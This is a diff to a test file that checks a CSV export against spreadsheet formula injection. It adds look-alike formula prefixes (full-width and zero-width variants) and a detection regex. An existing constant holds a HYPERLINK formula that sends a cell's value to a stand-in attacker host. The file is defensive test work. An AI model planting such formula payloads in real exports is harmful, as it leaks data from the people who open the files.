@@ -5,11 +5,39 @@ import { createTestApp, type TestApp } from '../../test/test-app';
 import { testDatabaseKinds } from '../../test/test-databases';
 import { writeLiveWebm } from '../../test/test-video';
 import { locateFfmpeg, type FfmpegTools } from '../recordings/ffmpeg';
+import type { Role } from '../../../shared/roles.schema';
 import { CSV_COLUMNS } from './review-export';
 import { seedReviewFixture, type ReviewFixture } from './review-test-fixture';
-import { seedCandidate, type SeededCandidate } from './review-test-seed';
+import { listRoles, seedCandidate, type SeededCandidate } from './review-test-seed';
 
 const HYPERLINK = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")';
+
+/**
+ * Starts a spreadsheet may still read as a formula: the full-width and small forms of `= + - @`
+ * (East Asian input methods type them; spreadsheets fold them to the ASCII ones), and any of
+ * them behind whitespace or zero-width characters (trimmed on import).
+ */
+const LOOK_ALIKES = [
+  '\uff1d1+1', // ＝
+  '\uff0b1 (555) 0100', // ＋
+  '\uff0d2+3', // －
+  '\uff20SUM(A1:A9)', // ＠
+  '\ufe661+1', // ﹦ small equals sign
+  '\ufe621', // ﹢ small plus sign
+  '\ufe632', // ﹣ small hyphen-minus
+  '\ufe6bSUM(A1)', // ﹫ small commercial at
+  ' =1+1',
+  '  \t=1+1',
+  '\n=1+1',
+  '\r\n+1',
+  '\u00a0=1+1', // no-break space
+  '\u3000\uff1d1+1', // ideographic space, then ＝
+  '\u200b=1+1', // zero-width space
+  '\ufeff@SUM(A1)', // byte order mark
+];
+/** What a spreadsheet could run: written here rather than taken from the export's own rule. */
+const RUNNABLE =
+  /^[\s\u200b-\u200d\u2060\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b]/u;
 
 describe.each(testDatabaseKinds())('the CSV export on %s', (kind) => {
   let t: TestApp;
@@ -139,5 +167,68 @@ describe.each(testDatabaseKinds())('the CSV export on %s', (kind) => {
       headers: t.admin,
     });
     expect(bad.statusCode).toBe(400);
+  });
+});
+
+describe.each(testDatabaseKinds())('the CSV export of look-alike formulas on %s', (kind) => {
+  let t: TestApp;
+
+  beforeAll(async () => {
+    t = await createTestApp(kind);
+    const [role] = await listRoles(t);
+    const texts = [...LOOK_ALIKES, '  indented words'];
+    for (const [index, text] of texts.entries()) {
+      const seeded = await seedCandidate(t, {
+        role: role as Role,
+        name: text,
+        email: `look-alike-${index}@test.example`,
+        answers: [`<p>${text}</p>`],
+        feedback: { rating: 3, text },
+      });
+      const saved = await t.app.inject({
+        method: 'PATCH',
+        url: `/api/admin/candidates/${seeded.id}/review`,
+        headers: t.admin,
+        payload: { notes: text },
+      });
+      expect(saved.statusCode, saved.body).toBe(200);
+    }
+  });
+  afterAll(() => t.close());
+
+  const exportLookAlikes = async () => {
+    const response = await t.app.inject({
+      method: 'GET',
+      url: '/api/admin/export/candidates.csv',
+      headers: t.admin,
+    });
+    expect(response.statusCode, response.body).toBe(200);
+    const rows: string[][] = parse(response.body, { bom: true });
+    const byEmail = new Map(rows.map((row) => [row[CSV_COLUMNS.indexOf('Email')], row]));
+    const cell = (index: number, column: string) =>
+      byEmail.get(`look-alike-${index}@test.example`)?.[CSV_COLUMNS.indexOf(column)];
+    return { rows, cell };
+  };
+
+  it.each(LOOK_ALIKES.map((text, index) => [JSON.stringify(text), index] as const))(
+    'neutralises names, answers, feedback and notes starting with %s',
+    async (_label, index) => {
+      const { cell } = await exportLookAlikes();
+      const text = LOOK_ALIKES[index] as string;
+      // Names, answers and feedback are trimmed when saved; notes are kept as typed.
+      expect(cell(index, 'Name')).toBe(`'${text.trim()}`);
+      expect(cell(index, 'Answer 1')).toBe(`'${text.trim()}`);
+      expect(cell(index, 'Candidate feedback')).toBe(`'${text.trim()}`);
+      expect(cell(index, 'Notes')).toBe(`'${text}`);
+    },
+  );
+
+  it('leaves no cell a spreadsheet could run, and plain text as typed', async () => {
+    const { rows, cell } = await exportLookAlikes();
+    expect(rows).toHaveLength(LOOK_ALIKES.length + 2);
+    for (const row of rows) for (const value of row) expect(value).not.toMatch(RUNNABLE);
+    const plain = LOOK_ALIKES.length;
+    expect(cell(plain, 'Name')).toBe('indented words');
+    expect(cell(plain, 'Notes')).toBe('  indented words');
   });
 });
